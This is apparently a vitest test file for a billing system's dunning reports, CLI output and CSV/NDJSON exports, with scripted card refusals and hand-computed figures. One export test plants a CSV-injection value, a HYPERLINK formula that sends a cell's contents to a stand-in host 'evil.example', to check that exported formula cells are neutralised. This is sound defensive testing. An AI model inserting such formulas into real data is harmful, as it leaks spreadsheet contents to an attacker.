import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMandate, listMandates } from '../../src/billing/mandates/index.ts';
import { listCharges } from '../../src/billing/operator/charges.ts';
import { paymentAction } from '../../src/billing/operator/payments.ts';
import { dailyReport, recoveryReport, summaryReport } from '../../src/billing/reporting/reports.ts';
import { runBilling } from '../../src/billing/run/run.ts';
import { runCli } from '../support/cli.ts';
import { hasServer } from '../support/db.ts';
import { DAY } from '../support/time.ts';
import { startWorld, type World } from '../support/world.ts';

/**
 * A scripted dunning story and the reports' figures, computed by hand from the script:
 *  A 1000 GBP: refused 51, authorized on attempt 2;
 *  B 2000 GBP: refused 51 twice, authorized on attempt 3;
 *  C 3000 GBP: refused 33 (expired card): waits for a new card, never recovered;
 *  D 4000 GBP: authorized on attempt 1.
 */
describe('reports', () => {
  let w: World;
  const t0 = new Date('2027-06-01T09:00:00Z');
  beforeAll(async () => {
    w = await startWorld();
    const app = await w.app(t0);
    const make = async (ref: string, amount: number, outcomes: string[]) => {
      const v = await w.verify();
      if (outcomes.length > 0)
        w.sandbox.script({
          match: { chainId: v.chainId },
          outcomes: outcomes.map((code) => ({ type: 'refuse' as const, code })),
        });
      return createMandate(app, {
        customerRef: ref,
        intent: 'subscription',
        amount,
        currency: 'GBP',
        narrative: 'Reports',
        interval: '1 month',
        start: t0,
        credential: { link: v.href },
      });
    };
    await make('rep-a', 1000, ['51']);
    await make('rep-b', 2000, ['51', '51']);
    await make('rep-c', 3000, ['33']);
    await make('rep-d', 4000, []);
    // daily runs for two weeks: the retries fall due within them
    for (let d = 0; d < 14; d++) {
      const at = new Date(t0.getTime() + d * DAY + 3_600_000);
      await runBilling(await w.app(at), { asOf: at, trigger: 'test' });
    }
  });
  afterAll(async () => w?.close());

  it('recovery: per first refusal code, and the retry funnel', async () => {
    const app = await w.app(t0);
    const r = await recoveryReport(app, t0, new Date(t0.getTime() + 30 * DAY));
    const c51 = r.byCode.find((x) => x.refusalCode === '51')!;
    expect(c51).toMatchObject({
      refused: 2,
      recovered: 2,
      recoveryRate: 1,
      recoveredAmount: { GBP: 3000 },
      medianAttemptsToRecover: 2.5,
      failed: 0,
      stopped: 0,
      needsNewCredential: 0,
    });
    expect(c51.medianDaysToRecover).toBeGreaterThan(0);
    const c33 = r.byCode.find((x) => x.refusalCode === '33')!;
    expect(c33).toMatchObject({
      refused: 1,
      recovered: 0,
      recoveryRate: 0,
      recoveredAmount: {},
      needsNewCredential: 1,
    });
    expect(c33.medianDaysToRecover).toBeNull();
    expect(r.funnel).toEqual([
      { attempt: 1, attempts: 4, authorized: 1, rate: 0.25 },
      { attempt: 2, attempts: 2, authorized: 1, rate: 0.5 },
      { attempt: 3, attempts: 1, authorized: 1, rate: 1 },
    ]);
    // a window before the story has nothing
    expect((await recoveryReport(app, new Date('2027-01-01'), new Date('2027-02-01'))).byCode).toEqual([]);
  });

  it('summary: charged, first-attempt rate, refusals, recovered, failed for good, and the next 30 days', async () => {
    const app = await w.app(new Date(t0.getTime() + 14 * DAY));
    const s = (await summaryReport(app, t0, new Date(t0.getTime() + 30 * DAY), 'GBP')) as {
      currencies: Record<string, unknown>[];
      mandatesByStatus: Record<string, number>;
      forecastNext30Days: Record<string, { charges: number; amount: number }>;
    };
    expect(s.currencies).toEqual([
      {
        currency: 'GBP',
        charged: { charges: 3, amount: 7000 },
        settledAmount: expect.any(Number),
        refundedAmount: 0,
        netAmount: expect.any(Number),
        firstAttemptRate: 0.25,
        refusals: 4,
        recoveredByRetry: { charges: 2, amount: 3000 },
        failedForGood: { charges: 1, amount: 3000 },
      },
    ]);
    expect(s.mandatesByStatus).toMatchObject({ active: 3, needs_new_credential: 1 });
    // the three active mandates charge again on July 1st
    expect(s.forecastNext30Days).toEqual({ GBP: { charges: 3, amount: 7000 } });
  });

  it('summary: refunds of the charges authorized in the window, and what they bring in net', async () => {
    const app = await w.app(new Date(t0.getTime() + 14 * DAY));
    const figures = async () =>
      (await summaryReport(app, t0, new Date(t0.getTime() + 30 * DAY), 'GBP', { forecast: false }))
        .currencies[0]!;
    const before = await figures();
    expect(before.netAmount).toBe(before.settledAmount);
    const [m] = (await listMandates(w.t.database, { customerRef: 'rep-d' })).items;
    const [charge] = (await listCharges(w.t.database, { mandateId: m!.id })).items;
    expect(charge!.settledAmount).toBe(4000);
    const refund = await paymentAction(app, charge!.id, 'partialRefund', { amount: 1500 });
    expect(refund.outcome).toBe('accepted');
    const after = await figures();
    expect(after.refundedAmount).toBe(1500);
    expect(after.settledAmount).toBe(before.settledAmount);
    expect(after.netAmount).toBe(before.settledAmount - 1500);
  });

  it.skipIf(!hasServer)(
    'the CLI prints the same reports: JSON as the API, amounts in major units for people',
    async () => {
      const window = ['--from', '2027-06-01T00:00:00Z', '--to', '2027-07-01T00:00:00Z'];
      const env = { ...w.env, REBILL_LOG_LEVEL: 'warn' };
      const json = await runCli(['reports', 'recovery', ...window, '--json'], env);
      expect(json.code, json.stderr).toBe(0);
      const app = await w.app(t0);
      expect(JSON.parse(json.stdout)).toEqual(
        JSON.parse(
          JSON.stringify(
            await recoveryReport(app, new Date('2027-06-01T00:00:00Z'), new Date('2027-07-01T00:00:00Z')),
          ),
        ),
      );
      const human = await runCli(['reports', 'summary', ...window, '--currency', 'GBP'], env);
      expect(human.code, human.stderr).toBe(0);
      // charged 3 for 70.00, refunded 15.00 of them (above), recovered 2 for 30.00
      expect(human.stdout).toMatch(/refunded\s+net/);
      expect(human.stdout).toMatch(/GBP\s+3 \/ 70\.00 GBP\s+[\d.]+ GBP\s+15\.00 GBP\s+[\d.]+ GBP/);
      expect(human.stdout).toContain('2 / 30.00 GBP');
      const daily = await runCli(['reports', 'daily', ...window], env);
      expect(daily.code, daily.stderr).toBe(0);
      expect(daily.stdout).toMatch(/^2027-06-01\s+GBP\s+1\s+3\s+0$/m);
      const bad = await runCli(['reports', 'daily', '--from', '2027-06-01', '--to', '2029-01-01'], env);
      expect(bad.code).toBe(2);
      expect(bad.stderr).toContain('400 days');
    },
  );

  it('daily: per UTC day, first-time authorizations, refusals and recoveries add up to the story', async () => {
    const app = await w.app(t0);
    const d = await dailyReport(app, t0, new Date(t0.getTime() + 30 * DAY));
    // day one: D authorized; A, B and C refused
    expect(d.days[0]).toEqual({
      day: '2027-06-01',
      currency: 'GBP',
      authorized: 1,
      refused: 3,
      recovered: 0,
    });
    const sum = (k: 'authorized' | 'refused' | 'recovered') => d.days.reduce((a, x) => a + x[k], 0);
    // B's second refusal; A and B recovered
    expect([sum('authorized'), sum('refused'), sum('recovered')]).toEqual([1, 4, 2]);
    expect(new Set(d.days.map((x) => x.day)).size).toBe(d.days.length);
    expect((await dailyReport(app, t0, new Date(t0.getTime() + 30 * DAY), 'EUR')).days).toEqual([]);
    await expect(dailyReport(app, t0, new Date(t0.getTime() + 500 * DAY))).rejects.toMatchObject({
      field: 'to',
    });
  });
});

describe('exports', () => {
  let w: World;
  const t0 = new Date('2027-06-01T09:00:00Z');
  const TOKEN = 'tok-exports-0123456789';
  beforeAll(async () => {
    w = await startWorld({ env: { REBILL_ADMIN_TOKENS: TOKEN } });
    const app = await w.app(t0);
    for (const [i, card] of ['4444333322221111', '4929301661318602'].entries())
      await createMandate(app, {
        customerRef: `exp-${i}, "quoted"`,
        intent: 'unscheduled',
        amount: 100 + i,
        currency: 'GBP',
        narrative: 'Exports',
        credential: { cardNumber: card, expiryMonth: 12, expiryYear: 2030 },
      });
  });
  afterAll(async () => w?.close());

  it('streams fixed columns as CSV and NDJSON, over the API too, with no card data', async () => {
    const app = await w.app(t0);
    const { exportLines } = await import('../../src/billing/reporting/exports.ts');
    const window = { from: new Date('2026-01-01T00:00:00Z'), to: new Date('2099-01-01T00:00:00Z') };
    let csv = '';
    for await (const chunk of exportLines(w.t.database, 'mandates', { ...window, format: 'csv' }))
      csv += chunk;
    const lines = csv.trim().split('\n');
    expect(lines[0]).toBe(
      'id,customer_ref,intent,amount,currency,interval,status,status_reason,next_due_at,credit_balance,gateway,card_brand,card_last_four,legacy_id,created_at',
    );
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain('"exp-0, ""quoted"""');
    expect(lines[1]).toContain(',visa,1111,');
    let nd = '';
    for await (const chunk of exportLines(w.t.database, 'events', { ...window, format: 'ndjson' }))
      nd += chunk;
    const events = nd
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(events.map((e) => e.type)).toEqual(['mandate.created', 'mandate.created']);
    expect(events[0].data.credential.lastFour).toBe('1111');
    for (const text of [csv, nd]) {
      expect(text).not.toContain('4444333322221111');
      expect(text).not.toContain('4929301661318602');
    }
    await expect(
      (async () => {
        for await (const _ of exportLines(w.t.database, 'cards', window)) void _;
      })(),
    ).rejects.toMatchObject({ field: 'kind' });
    // over the API
    const { createAdminServer } = await import('../../src/http/server.ts');
    const { createRunner } = await import('../../src/billing/run/runner.ts');
    const { request } = await import('undici');
    const server = await createAdminServer({ ctx: app, runner: createRunner(app) });
    const url = await server.listen('127.0.0.1:0');
    try {
      const res = await request(
        `${url}/v1/exports/mandates?from=2026-01-01T00:00:00Z&to=2099-01-01T00:00:00Z`,
        {
          headers: { authorization: `Bearer ${TOKEN}` },
        },
      );
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toContain('text/csv');
      expect(await res.body.text()).toBe(csv);
      const bad = await request(`${url}/v1/exports/cards?from=2026-01-01T00:00:00Z&to=2099-01-01T00:00:00Z`, {
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      expect(bad.statusCode).toBe(400);
      expect(((await bad.body.json()) as { error: { field: string } }).error.field).toBe('kind');
      const noAuth = await request(
        `${url}/v1/exports/mandates?from=2026-01-01T00:00:00Z&to=2099-01-01T00:00:00Z`,
      );
      expect(noAuth.statusCode).toBe(401);
      await noAuth.body.dump();
    } finally {
      await server.close();
    }
  });

  it('neutralises formula cells in every CSV, and NDJSON keeps the API types', async () => {
    const app = await w.app(t0);
    const { exportLines } = await import('../../src/billing/reporting/exports.ts');
    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
    const m = await createMandate(app, {
      customerRef: evil,
      intent: 'subscription',
      amount: 250,
      currency: 'GBP',
      narrative: 'Exports',
      interval: '1 month',
      start: new Date(t0.getTime() + DAY),
      credential: { cardNumber: '4444333322221111', expiryMonth: 12, expiryYear: 2030 },
    });
    const window = { from: new Date('2026-01-01T00:00:00Z'), to: new Date('2099-01-01T00:00:00Z') };
    const read = async (kind: string, format: string) => {
      let text = '';
      for await (const chunk of exportLines(w.t.database, kind, { ...window, format })) text += chunk;
      return text;
    };
    const quoted = `"'${evil.replaceAll('"', '""')}"`;
    for (const kind of ['mandates', 'events']) {
      const csv = await read(kind, 'csv');
      // the reference's cells start with a quote; no cell starts with a formula character
      expect(csv, kind).toContain(quoted);
      expect(csv, kind).not.toMatch(/(^|,)"?[=+@]/m);
    }
    const { csvCell } = await import('../../src/billing/reporting/csv.ts');
    expect(['+1', '-x', '@SUM(A1)', '\tcmd', '\rcmd', '-1500', '12', 'plain'].map(csvCell)).toEqual([
      `"'+1"`,
      `"'-x"`,
      `"'@SUM(A1)"`,
      `"'\tcmd"`,
      `"'\rcmd"`,
      '-1500',
      '12',
      'plain',
    ]);
    const mandateLine = (await read('mandates', 'ndjson'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
      .find((r) => r.id === m.id);
    expect(mandateLine).toMatchObject({ id: m.id, amount: 250, credit_balance: 0, customer_ref: evil });
    const [event] = (await read('events', 'ndjson'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
      .filter((e) => e.mandate_id === m.id);
    // as GET /v1/events: the id a string (the cursor), the mandate a number
    expect(typeof event.id).toBe('string');
    expect(event.mandate_id).toBe(m.id);
    expect(event.data.customerRef).toBe(evil);
    await runBilling(await w.app(new Date(t0.getTime() + DAY)), {
      asOf: new Date(t0.getTime() + DAY + 60_000),
      trigger: 'test',
    });
    const [charge] = (await read('charges', 'ndjson'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
      .filter((c) => c.mandate_id === m.id);
    expect(charge).toMatchObject({ mandate_id: m.id, cycle: 0, amount: 250, attempt_count: 1 });
    expect(typeof charge.id).toBe('number');
    const [attempt] = (await read('attempts', 'ndjson'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
      .filter((a) => a.charge_id === charge.id);
    expect(attempt).toMatchObject({ attempt_no: 1, http_status: 201 });
    if (hasServer) {
      const forecast = await runCli(
        [
          'forecast',
          '--from',
          '2027-06-01T00:00:00Z',
          '--to',
          '2027-09-01T00:00:00Z',
          '--csv',
          '--mandate-id',
          String(m.id),
        ],
        { ...w.env, REBILL_LOG_LEVEL: 'warn' },
      );
      expect(forecast.code, forecast.stderr).toBe(0);
      const rows = forecast.stdout.trim().split('\n').slice(1);
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) expect(row).toContain(`,${quoted},`);
    }
  });
});
